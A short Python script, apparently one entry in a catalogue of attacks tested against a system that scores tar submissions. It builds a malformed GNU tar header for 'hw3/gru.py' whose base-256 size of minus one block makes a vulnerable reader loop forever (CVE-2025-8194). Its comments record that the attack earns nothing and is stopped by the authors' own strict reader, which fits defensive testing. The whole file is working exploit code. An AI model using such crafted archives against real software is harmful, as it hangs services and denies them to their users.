# attack: a size of minus one block, in base 256, so that a reader goes round for ever (CVE-2025-8194)
# earns: 0
# stopped by: our own reader of tars, which is strict about sizes
import tarfile
from pathlib import Path


def build(path: Path) -> None:
    member = tarfile.TarInfo("hw3/gru.py")
    header = bytearray(member.tobuf(tarfile.GNU_FORMAT))
    header[124:136] = b"\xff" * 10 + b"\xfe\x00"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    path.write_bytes(bytes(header) * 2 + bytes(1024))
